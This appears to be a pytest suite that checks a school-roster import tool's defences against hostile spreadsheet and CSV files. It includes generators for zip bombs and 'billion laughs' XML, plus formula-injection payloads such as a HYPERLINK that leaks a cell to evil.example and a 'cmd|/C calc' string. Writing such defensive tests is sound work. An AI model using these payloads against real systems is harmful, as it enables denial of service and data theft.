"""Hostile and broken input files (SPEC §5 "Bad input"), all generated into tmp_path.

Every file ends in one clear message (exit 2, one stderr line naming the file, no
traceback) or in correct data — never a traceback, a hang or an out-of-memory, and
a refused file never changes the database. Files that could hang the process or
exhaust its memory run through the command line in a subprocess with a timeout and
an address-space limit of 2 GiB.
"""

from __future__ import annotations

import csv
import io
import json
import random
import resource
import sqlite3
import struct
import subprocess
import sys
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest
import xlwt

from app.cli import main
from app.engine.reading import readers

YEAR_ARGS = ["--year", "2026/27", "--account-type", "student"]
HEADER = ["Interne ID-Nummer", "Nachname", "Vorname", "Klasse", "Geburtsdatum"]
MEMORY_LIMIT = 2 << 30
REPO = Path(__file__).resolve().parents[2]


# ------------------------------------------------------------------ the database


def dump(db: Path) -> dict[str, list[tuple[object, ...]]]:
    """Every row of every table, sorted: two dumps are equal iff nothing changed."""
    with sqlite3.connect(db) as conn:
        tables = [r[0] for r in conn.execute("select name from sqlite_master where type='table'")]
        return {
            table: sorted(conn.execute(f'select * from "{table}"').fetchall(), key=repr)
            for table in tables
        }


@dataclass
class Db:
    path: Path
    url: str

    def run(self, *args: object) -> tuple[int, str, str]:
        """The command line in this process; returns (exit, stdout, stderr)."""
        out, err = io.StringIO(), io.StringIO()
        saved = sys.stdout, sys.stderr
        sys.stdout, sys.stderr = out, err
        try:
            code = main(["--db", self.url, *map(str, args)])
        finally:
            sys.stdout, sys.stderr = saved
        return code, out.getvalue(), err.getvalue()

    def users(self) -> list[dict[str, object]]:
        code, out, err = self.run("users", "list", "--json")
        assert code == 0, err
        return list(json.loads(out))


@pytest.fixture
def db(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Db:
    monkeypatch.setenv("SCHOOLIMPORT_LOG_DIR", str(tmp_path / "logs"))
    path = tmp_path / "hostile.db"
    database = Db(path, f"sqlite:///{path}")
    assert database.run("init")[0] == 0
    code, _out, err = database.run(
        "year", "add", "2026/27", "--start", "2026-08-01", "--end", "2027-07-31", "--current"
    )
    assert code == 0, err
    return database


def assert_one_clear_line(code: int, err: str, file: Path, *words: str) -> None:
    assert code == 2, err
    lines = err.strip().splitlines()
    assert len(lines) == 1, err
    assert file.name in lines[0] and "Traceback" not in err
    for word in words:
        assert word in lines[0], lines[0]


def refused_without_change(db: Db, file: Path, *words: str, extra: tuple[str, ...] = ()) -> str:
    before = dump(db.path)
    code, _out, err = db.run("import", file, *YEAR_ARGS, *extra)
    assert_one_clear_line(code, err, file, *words)
    assert dump(db.path) == before
    return err


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    path.write_bytes(("\r\n".join(";".join(r) for r in rows) + "\r\n").encode(encoding))
    return path


def valid_xlsx(path: Path) -> Path:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in [HEADER, ["1", "Muster", "Max", "5a", "2014-05-03"]]:
        sheet.append(row)
    workbook.save(path)
    return path


def valid_ods(path: Path) -> Path:
    import pandas as pd

    frame = pd.DataFrame([["1", "Muster", "Max", "5a", "2014-05-03"]], columns=HEADER)
    with pd.ExcelWriter(path, engine="odf") as writer:
        frame.to_excel(writer, index=False)
    return path


# ------------------------------------------------------------------ crafted zips


@dataclass
class Member:
    """A deflated zip member whose header may claim any size."""

    name: str
    data: bytes
    crc: int
    size: int  # the uncompressed size the headers claim


def plain_member(name: str, content: bytes) -> Member:
    packer = zlib.compressobj(1, zlib.DEFLATED, -15)
    return Member(
        name, packer.compress(content) + packer.flush(), zlib.crc32(content), len(content)
    )


def repeated_member(name: str, unit: bytes, count: int, claimed: int | None = None) -> Member:
    """``unit`` ``count`` times, deflated once: each full-flushed block stands alone,
    so the same compressed bytes can be repeated (gigabytes built in milliseconds)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(unit) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(count):
        crc = zlib.crc32(unit, crc)
    data = block * count + b"\x03\x00"  # an empty final block ends the stream
    return Member(name, data, crc, len(unit) * count if claimed is None else claimed)


def write_zip(path: Path, members: list[Member]) -> Path:
    """A zip with ZIP64 sizes where needed, written by hand so headers can lie."""
    out, central = bytearray(), bytearray()
    for m in members:
        name, offset = m.name.encode(), len(out)
        big = m.size >= 0xFFFFFFFF or len(m.data) >= 0xFFFFFFFF
        extra = struct.pack("<HHQQ", 1, 16, m.size, len(m.data)) if big else b""
        csize, usize = (0xFFFFFFFF, 0xFFFFFFFF) if big else (len(m.data), m.size)
        version = 45 if big else 20
        fields = (version, 0, 8, 0, 0x21, m.crc, csize, usize, len(name), len(extra))
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", *fields) + name + extra + m.data
        central += struct.pack(
            "<4sHHHHHHIIIHHHHHII",
            b"PK\x01\x02",
            version,
            *fields,
            0,
            0,
            0,
            0,
            offset,
        )
        central += name + extra
    end = struct.pack(
        "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(members), len(members), len(central), len(out), 0
    )
    path.write_bytes(bytes(out + central + end))
    return path


def xlsx_with(
    path: Path, tmp: Path, replace: dict[str, Member], add: Sequence[Member] = ()
) -> Path:
    """A valid XLSX with some members replaced or added."""
    source = zipfile.ZipFile(valid_xlsx(tmp / f"base-{path.name}"))
    members = [
        replace.get(info.filename) or plain_member(info.filename, source.read(info))
        for info in source.infolist()
    ]
    return write_zip(path, [*members, *add])


SHEET_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
)
SHEET_TAIL = b"</sheetData></worksheet>"


def inline_row(number: int, cells: list[tuple[str, str]]) -> bytes:
    body = "".join(
        f'<c r="{ref}{number}" t="inlineStr"><is><t>{text}</t></is></c>' for ref, text in cells
    )
    return f'<row r="{number}">{body}</row>'.encode()


HEADER_ROW = inline_row(1, list(zip("ABC", ["ID", "Nachname", "Vorname"], strict=True)))


@pytest.fixture(scope="session")
def honest_bomb(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 2 MB XLSX whose sheet honestly unpacks to 2.1 GB of zeros (ZIP64 headers)."""
    path = tmp_path_factory.mktemp("bomb") / "bomb.xlsx"
    sheet = repeated_member("xl/worksheets/sheet1.xml", bytes(1 << 20), 2100)
    xlsx_with(path, path.parent, {"xl/worksheets/sheet1.xml": sheet})
    return path


# ------------------------------------------------------------------ refused files


def test_empty_files(db: Db, tmp_path: Path) -> None:
    for name in ("empty.csv", "empty.xlsx", "empty.ods", "empty.xls"):
        path = tmp_path / name
        path.write_bytes(b"")
        refused_without_change(db, path, "empty")
    blank = tmp_path / "blank.csv"
    blank.write_bytes(b"\xef\xbb\xbf \r\n;;;\r\n")
    refused_without_change(db, blank)


@pytest.mark.parametrize("suffix", ["xlsx", "ods", "xls", "csv"])
def test_binary_noise(db: Db, tmp_path: Path, suffix: str) -> None:
    path = tmp_path / f"noise.{suffix}"
    path.write_bytes(random.Random(suffix).randbytes(20_000))
    refused_without_change(db, path)


@pytest.mark.parametrize("writer", [valid_xlsx, valid_ods])
def test_truncated_workbooks(db: Db, tmp_path: Path, writer: Callable[[Path], Path]) -> None:
    full = writer(tmp_path / f"full{writer.__name__[-5:]}")
    data = full.read_bytes()
    for cut in (len(data) // 3, len(data) // 2, len(data) - 30):
        path = tmp_path / f"cut{cut}{full.suffix}"
        path.write_bytes(data[:cut])
        refused_without_change(db, path)


def test_zip_bomb_with_a_lowered_limit(
    db: Db, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(readers, "MAX_UNCOMPRESSED_BYTES", 20 << 20)
    sheet = repeated_member("xl/worksheets/sheet1.xml", bytes(1 << 20), 50)
    path = xlsx_with(tmp_path / "bomb50.xlsx", tmp_path, {"xl/worksheets/sheet1.xml": sheet})
    assert path.stat().st_size < 100_000
    refused_without_change(db, path, "too large")


def ods(path: Path, table: str) -> Path:
    content = (
        '<?xml version="1.0" encoding="UTF-8"?><office:document-content '
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
        f'<office:body><office:spreadsheet><table:table table:name="S">{table}'
        "</table:table></office:spreadsheet></office:body></office:document-content>"
    )
    manifest = (
        '<?xml version="1.0"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        "</manifest:manifest>"
    )
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", content)
        archive.writestr("META-INF/manifest.xml", manifest)
    return path


def ods_cell(text: str, repeat: int = 1) -> str:
    times = f' table:number-columns-repeated="{repeat}"' if repeat > 1 else ""
    cell = f'<table:table-cell office:value-type="string"{times}>'
    return f"{cell}<text:p>{text}</text:p></table:table-cell>"


def build_lying_directory(folder: Path) -> Path:
    """Claims 1,000 bytes (with the checksum of those bytes), unpacks to 1 GB."""
    unit = inline_row(2, [("A", "x")]) * 16_000
    lie = repeated_member("xl/worksheets/sheet1.xml", unit, (1 << 30) // len(unit), 1000)
    lie.crc = zlib.crc32((unit * 2)[:1000])
    return xlsx_with(folder / "liar.xlsx", folder, {"xl/worksheets/sheet1.xml": lie})


def build_whole_grid(folder: Path) -> Path:
    """One value in A1 and one in XFD1048576: calamine would ask for 17 billion cells
    and abort the process; the extent check refuses it first."""
    far = SHEET_HEAD + HEADER_ROW + inline_row(1048576, [("XFD", "x")]) + SHEET_TAIL
    sheet = plain_member("xl/worksheets/sheet1.xml", far)
    return xlsx_with(folder / "span.xlsx", folder, {"xl/worksheets/sheet1.xml": sheet})


def build_far_cell_among_rows(folder: Path) -> Path:
    """Ordinary rows in order, one of them with a cell in XFD1048576: the last row
    claims a small sheet, and the cell in the middle must disprove the claim."""
    rows = [inline_row(n, [("A", str(n)), ("B", "Name"), ("C", "Vorname")]) for n in range(2, 400)]
    rows[200] = rows[200].replace(b"</row>", b'<c r="XFD1048576"><v>1</v></c></row>')
    far = SHEET_HEAD + HEADER_ROW + b"".join(rows) + SHEET_TAIL
    sheet = plain_member("xl/worksheets/sheet1.xml", far)
    return xlsx_with(folder / "hidden.xlsx", folder, {"xl/worksheets/sheet1.xml": sheet})


def build_grid_by_counting(folder: Path) -> Path:
    """Cells without references are placed by counting; the bound follows that."""
    counted = b"<row>" + b'<c t="inlineStr"><is><t>x</t></is></c>' * 3000 + b"</row>"
    rows = b"<row/>" * 2000 + b'<row r="5000">' + b"<c><v>1</v></c>" * 3000 + b"</row>"
    sheet = plain_member("xl/worksheets/sheet1.xml", SHEET_HEAD + counted + rows + SHEET_TAIL)
    return xlsx_with(folder / "count.xlsx", folder, {"xl/worksheets/sheet1.xml": sheet})


def build_ods_repeats(folder: Path) -> Path:
    """A 1 KB ODS whose repeated cells make 99 million values (calamine aborts)."""
    names = "".join(ods_cell(c) for c in ("ID", "Nachname", "Vorname"))
    body = f'<table:table-row table:number-rows-repeated="99000">{ods_cell("y", 1000)}'
    return ods(
        folder / "repeat.ods", f"<table:table-row>{names}</table:table-row>{body}</table:table-row>"
    )


def _patched_xls(path: Path, row: int, column: int, record: bytes, patched: bytes) -> Path:
    """A one-sheet XLS (the three headers and an "x" at ``row``, ``column``) written by
    xlwt, then its one ``record`` replaced by ``patched``: what xlwt refuses to write."""
    workbook = xlwt.Workbook()
    sheet = workbook.add_sheet("S")
    for number, text in enumerate(["ID", "Nachname", "Vorname"]):
        sheet.write(0, number, text)
    sheet.write(row, column, "x")
    workbook.save(str(path))
    data = path.read_bytes()
    assert data.count(record) == 1
    path.write_bytes(data.replace(record, patched))
    return path


def build_xls_beyond_the_grid(folder: Path) -> Path:
    record = b"\xfd\x00\x0a\x00\xff\xff\xff\x00"  # LABELSST at row 65535, column 255
    patched = b"\xfd\x00\x0a\x00\xff\xff\xff\x3f"  # … column 16383
    return _patched_xls(folder / "far.xls", 65535, 255, record, patched)


def build_xls_stating_terabytes(folder: Path) -> Path:
    """A small XLS whose DIMENSIONS record states 2,000,000 rows × 16,384 columns:
    calamine reserves room for them before reading a cell (1.3 TB: the process
    aborted)."""
    record = struct.pack("<HH2L2HH", 0x0200, 14, 0, 2, 0, 3, 0)  # rows 0-1, columns 0-2
    patched = struct.pack("<HH2L2HH", 0x0200, 14, 0, 2_000_000, 0, 16384, 0)
    return _patched_xls(folder / "stating.xls", 1, 2, record, patched)


def build_xls_of_many_sheets(folder: Path) -> Path:
    """40 sheets of two cells each, 19,600 rows × 250 columns apart: each grid is under
    the limit, all of them (calamine reads every sheet at once) are 196,000,000 cells."""
    workbook = xlwt.Workbook()
    for number in range(40):
        sheet = workbook.add_sheet(f"S{number}")
        sheet.write(0, 0, "ID")
        sheet.write(19599, 249, "x")
    path = folder / "sheets.xls"
    workbook.save(str(path))
    return path


def build_ods_of_many_sheets(folder: Path) -> Path:
    """The same in ODS: 40 sheets of two cells, the rows between repeated."""
    value = ods_cell("x")
    sheet = (
        f"<table:table-row>{value}</table:table-row>"
        '<table:table-row table:number-rows-repeated="19598"><table:table-cell/></table:table-row>'
        f'<table:table-row><table:table-cell table:number-columns-repeated="249"/>{value}'
        "</table:table-row>"
    )
    others = "".join(f'</table:table><table:table table:name="S{n}">{sheet}' for n in range(1, 40))
    return ods(folder / "sheets.ods", sheet + others)


LOL = "".join(f'<!ENTITY lol{n} "{("&lol" + str(n - 1) + ";") * 10}">' for n in range(1, 10))
DOCTYPE = f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">{LOL}]>'


def build_laughs_in_sheet(folder: Path) -> Path:
    xml = DOCTYPE.encode() + SHEET_HEAD.split(b"?>", 1)[1]
    xml += HEADER_ROW + inline_row(2, [("A", "1"), ("B", "&lol9;"), ("C", "x")]) + SHEET_TAIL
    sheet = plain_member("xl/worksheets/sheet1.xml", xml)
    return xlsx_with(folder / "laughs.xlsx", folder, {"xl/worksheets/sheet1.xml": sheet})


def build_laughs_in_strings(folder: Path) -> Path:
    strings = DOCTYPE + (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&lol9;</t></si></sst>'
    )
    sheet = SHEET_HEAD + HEADER_ROW + b'<row r="2"><c r="A2" t="s"><v>0</v></c></row>' + SHEET_TAIL
    source = zipfile.ZipFile(valid_xlsx(folder / "base-sst.xlsx"))
    types = source.read("[Content_Types].xml").replace(
        b"</Types>",
        b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
    )
    rels = source.read("xl/_rels/workbook.xml.rels").replace(
        b"</Relationships>",
        b'<Relationship Id="rId99" Target="sharedStrings.xml" Type="http://schemas.'
        b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>',
    )
    replace = {
        "xl/worksheets/sheet1.xml": plain_member("xl/worksheets/sheet1.xml", sheet),
        "[Content_Types].xml": plain_member("[Content_Types].xml", types),
        "xl/_rels/workbook.xml.rels": plain_member("xl/_rels/workbook.xml.rels", rels),
    }
    added = [plain_member("xl/sharedStrings.xml", strings.encode())]
    return xlsx_with(folder / "sst.xlsx", folder, replace, added)


# name: (builder, words the message must contain)
IN_A_CHILD: dict[str, tuple[Callable[[Path], Path], tuple[str, ...]]] = {
    "lying central directory": (build_lying_directory, ("damaged",)),
    "whole grid": (build_whole_grid, ("too large", "cells")),
    "far cell among ordinary rows": (build_far_cell_among_rows, ("too large", "cells")),
    "grid by counting": (build_grid_by_counting, ("too large",)),
    "ods repeats": (build_ods_repeats, ("too large",)),
    "xls beyond the grid": (build_xls_beyond_the_grid, ("too large",)),
    "xls stating terabytes": (build_xls_stating_terabytes, ("too large",)),
    "xls of many sheets": (build_xls_of_many_sheets, ("too large",)),
    "ods of many sheets": (build_ods_of_many_sheets, ("too large",)),
    "billion laughs in the sheet": (build_laughs_in_sheet, ("damaged",)),
    "billion laughs in the shared strings": (build_laughs_in_strings, ("damaged",)),
}

CHILD = """
import contextlib, io, json, sys
from app.cli import main
for name, argv in json.loads(sys.argv[1]):
    err = io.StringIO()
    with contextlib.redirect_stderr(err), contextlib.redirect_stdout(io.StringIO()):
        code = main(argv)
    print(json.dumps([name, code, err.getvalue()]), flush=True)
"""


@dataclass
class ChildRun:
    files: dict[str, Path]
    results: dict[str, tuple[int, str]]
    unchanged: bool
    seconds: float


@pytest.fixture(scope="module")
def child_run(tmp_path_factory: pytest.TempPathFactory, honest_bomb: Path) -> Iterator[ChildRun]:
    """Every memory-hungry file imported by one child process (one start-up) with
    2 GiB of address space and a time limit; each result is checked by its own test."""
    folder = tmp_path_factory.mktemp("hostile")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("SCHOOLIMPORT_LOG_DIR", str(folder / "logs"))
        db = Db(folder / "child.db", f"sqlite:///{folder / 'child.db'}")
        assert db.run("init")[0] == 0
        assert (
            db.run("year", "add", "2026/27", "--start", "2026-08-01", "--end", "2027-07-31")[0] == 0
        )
        files = {name: build(folder) for name, (build, _words) in IN_A_CHILD.items()}
        files["two gigabyte bomb"] = honest_bomb
        jobs = [[n, ["--db", db.url, "import", str(p), *YEAR_ARGS]] for n, p in files.items()]
        before = dump(db.path)
        started = time.perf_counter()
        result = subprocess.run(
            [sys.executable, "-c", CHILD, json.dumps(jobs)],
            capture_output=True,
            text=True,
            timeout=60,
            preexec_fn=_limit_memory,
            cwd=REPO,
            check=False,
        )
        seconds = time.perf_counter() - started
        assert result.returncode == 0, result.stderr[-3000:]
        results = {}
        for line in result.stdout.splitlines():
            name, code, err = json.loads(line)
            results[name] = (code, err)
        yield ChildRun(files, results, dump(db.path) == before, seconds)


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY_LIMIT, MEMORY_LIMIT))


@pytest.mark.parametrize("name", [*IN_A_CHILD, "two gigabyte bomb"])
def test_memory_hungry_files_are_refused(child_run: ChildRun, name: str) -> None:
    code, err = child_run.results[name]
    words = IN_A_CHILD[name][1] if name in IN_A_CHILD else ("too large",)
    assert_one_clear_line(code, err, child_run.files[name], *words)
    assert child_run.unchanged
    assert child_run.seconds < 30


def test_the_bombs_are_small(child_run: ChildRun, honest_bomb: Path) -> None:
    with zipfile.ZipFile(honest_bomb) as archive:
        assert sum(i.file_size for i in archive.infolist()) > 2 << 30  # honest ZIP64 sizes
    small = ("two gigabyte bomb", "whole grid", "ods repeats", "xls beyond the grid")
    for name in (*small, "xls stating terabytes", "xls of many sheets", "ods of many sheets"):
        assert child_run.files[name].stat().st_size < 3 << 20, name


def test_ods_with_the_usual_empty_repeats_is_read(db: Db, tmp_path: Path) -> None:
    """What LibreOffice writes: trailing empty columns and a million empty rows."""
    empty_cells = '<table:table-cell table:number-columns-repeated="1021"/>'
    columns = '<table:table-column table:number-columns-repeated="1024"/>'
    rows = [["ID", "Nachname", "Vorname"], ["7", "Muster", "Max"]]
    body = "".join(
        f"<table:table-row>{''.join(ods_cell(c) for c in row)}{empty_cells}</table:table-row>"
        for row in rows
    )
    tail = f'<table:table-row table:number-rows-repeated="1048574">{empty_cells}</table:table-row>'
    path = ods(tmp_path / "libreoffice.ods", columns + body + tail)
    code, _out, err = db.run("import", path, *YEAR_ARGS)
    assert code == 0, err
    assert [u["login"] for u in db.users()] == ["max.muster"]


def test_nul_bytes(db: Db, tmp_path: Path) -> None:
    path = tmp_path / "nul.csv"
    path.write_bytes(b"ID;Nachname;Vorname\r\n1;Mus\x00ter;Max\r\n")
    refused_without_change(db, path, "NUL")


def test_mixed_encodings_in_one_csv(db: Db, tmp_path: Path) -> None:
    path = tmp_path / "mixed.csv"
    lines = ["ID;Nachname;Vorname", "1;Müller;Jürgen", "2;Weiß;Jörg"]
    path.write_bytes(
        b"\r\n".join([lines[0].encode(), lines[1].encode("utf-8"), lines[2].encode("cp1252"), b""])
    )
    refused_without_change(db, path, "line 2 is UTF-8 but line 3 is not")
    # Told the encoding, the file is read as that (the user chose).
    code, _out, err = db.run("import", path, *YEAR_ARGS, "--encoding", "utf-8")
    assert_one_clear_line(code, err, path, "utf-8", "line 3")


def test_missing_required_column(db: Db, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "noid.csv", [["Nachname", "Vorname"], ["Muster", "Max"]])
    refused_without_change(db, path, "source ID")


def test_duplicate_headers(db: Db, tmp_path: Path) -> None:
    rows = [["ID", "Nachname", "Nachname", "Vorname"], ["1", "Muster", "Anders", "Max"]]
    path = write_csv(tmp_path / "twice.csv", rows)
    # Neither column is taken silently: the message names the header and its columns.
    refused_without_change(db, path, "'Nachname'", "columns 2, 3", "--map 3=")
    # Choosing a column by its number settles it.
    code, _out, err = db.run("import", path, *YEAR_ARGS, "--map", "3=last_name")
    assert code == 0, err
    assert [(u["last_name"], u["first_name"]) for u in db.users()] == [("Anders", "Max")]


# ------------------------------------------------------------------ files read as data


def test_hundred_thousand_columns(db: Db, tmp_path: Path) -> None:
    header = ["ID", "Nachname", "Vorname", *(f"Spalte {n}" for n in range(100_000))]
    row = ["1", "Muster", "Max", *("x" for _ in range(100_000))]
    path = write_csv(tmp_path / "wide.csv", [header, row])
    code, out, err = db.run("import", path, *YEAR_ARGS, "--json")
    assert code == 0, err
    assert json.loads(out)["created"] == 1


def test_a_fifty_megabyte_cell(db: Db, tmp_path: Path) -> None:
    """In CSV it is refused with the limit; in a workbook it is read, and the row is
    invalid (a name has at most 64 characters)."""
    rows = [["ID", "Nachname", "Vorname"], ["1", "M" * (50 << 20), "Max"], ["2", "Kurz", "Ina"]]
    path = write_csv(tmp_path / "huge-cell.csv", rows)
    refused_without_change(db, path, "line 2", "more than 131,072 characters")
    huge = b'<c r="B2" t="inlineStr"><is><t>' + b"M" * (50 << 20) + b"</t></is></c>"
    body = b'<row r="2"><c r="A2"><v>1</v></c>' + huge + inline_row(2, [("C", "Max")])[11:]
    body += inline_row(3, [("A", "2"), ("B", "Kurz"), ("C", "Ina")])
    sheet = plain_member("xl/worksheets/sheet1.xml", SHEET_HEAD + HEADER_ROW + body + SHEET_TAIL)
    xlsx = xlsx_with(tmp_path / "huge-cell.xlsx", tmp_path, {"xl/worksheets/sheet1.xml": sheet})
    code, out, err = db.run("import", xlsx, *YEAR_ARGS, "--json")
    assert code == 0, err
    counts = json.loads(out)
    assert (counts["created"], counts["invalid"]) == (1, 1)


def test_formulas_are_data(db: Db, tmp_path: Path) -> None:
    """Formula text in CSV stays text; a workbook formula gives its cached value, if
    any, or nothing — calamine evaluates nothing, and no cell is ever executed."""
    rows = [
        ["ID", "Nachname", "Vorname"],
        ["1", '=HYPERLINK("http://evil.example/?"&A1;"klick")', "Max"],
        ["2", "+49 30 1234", "@SUM(A1:A2)"],
        ["3", "-Minus", "=1+1"],
    ]
    csv_path = tmp_path / "formulas.csv"
    with csv_path.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, delimiter=",", quoting=csv.QUOTE_ALL).writerows(rows)
    code, _out, err = db.run("import", csv_path, *YEAR_ARGS)
    assert code == 0, err
    names = {(u["last_name"], u["first_name"]) for u in db.users()}
    assert names == {(r[1], r[2]) for r in rows[1:]}

    body = (
        b'<row r="2"><c r="A2"><v>10</v></c><c r="B2" t="str"><f>1+1</f><v>Cached</v></c>'
        b'<c r="C2" t="str"><f>CONCAT("=", "cmd|/C calc!A0")</f></c></row>'
    )
    sheet = plain_member("xl/worksheets/sheet1.xml", SHEET_HEAD + HEADER_ROW + body + SHEET_TAIL)
    xlsx = xlsx_with(tmp_path / "formulas.xlsx", tmp_path, {"xl/worksheets/sheet1.xml": sheet})
    table = readers.read_table(xlsx)
    assert table.rows == [["10", "Cached", ""]]


def test_dates_as_serial_numbers_and_as_text(db: Db, tmp_path: Path) -> None:
    import datetime

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["ID", "Nachname", "Vorname", "Geburtsdatum"])
    sheet.append([1, "Serial", "Sam", 41397])  # a number: the Excel serial of 2013-05-03
    sheet.append([2, "Datum", "Dora", datetime.date(2013, 5, 3)])  # a date cell
    sheet.append([3, "Text", "Tom", "03.05.2013"])
    sheet.append([4, "Iso", "Ida", "2013-05-03"])
    sheet.append([5, "Falsch", "Fritz", "31.02.2013"])
    path = tmp_path / "dates.xlsx"
    workbook.save(path)
    code, out, err = db.run("import", path, *YEAR_ARGS, "--json")
    assert code == 0, err
    assert json.loads(out)["invalid"] == 1
    births = {u["last_name"]: u["birth_date"] for u in db.users()}
    assert births == dict.fromkeys(["Serial", "Datum", "Text", "Iso"], "2013-05-03")


def test_right_to_left_and_combining_characters(db: Db, tmp_path: Path) -> None:
    rows = [
        ["ID", "Nachname", "Vorname"],
        ["1", "\u0627\u0644\u0639\u0644\u064a", "\u0645\u0631\u064a\u0645"],  # Arabic
        ["2", "\u05db\u05d4\u05df", "\u05e0\u05d5\u05e2\u05d4"],  # Hebrew
        ["3", "Mu\u0308ller", "Zoe\u0308"],  # decomposed umlauts
        ["4", "\u202eevil\u202c", "Rtl"],  # a right-to-left override
    ]
    path = write_csv(tmp_path / "rtl.csv", rows)
    code, _out, err = db.run("import", path, *YEAR_ARGS)
    assert code == 0, err
    users = {u["source_id"]: u for u in db.users()}
    assert users["3"]["last_name"] == "Müller" and users["3"]["first_name"] == "Zoë"
    assert users["3"]["login"] == "zoe.mueller"
    assert users["1"]["last_name"] == rows[1][1]
    for user in users.values():
        assert str(user["login"]).isascii()
